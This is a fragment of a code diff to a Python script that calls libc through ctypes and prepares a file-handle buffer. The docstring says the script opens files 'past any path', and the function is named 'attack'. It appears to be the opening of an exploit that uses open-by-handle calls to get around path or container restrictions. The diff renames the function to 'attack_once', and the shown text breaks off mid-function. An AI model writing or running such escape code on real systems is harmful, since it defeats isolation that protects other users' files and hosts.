@@ -1,14 +1,12 @@
 """Opens files by handles and by mount calls, past any path."""
 
 import ctypes
-import functools
 import os
 
 libc = ctypes.CDLL(None, use_errno=True)
 
 
-@functools.cache
-def attack():
+def attack_once():
     won = []
     handle = ctypes.create_string_buffer(136)
     ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
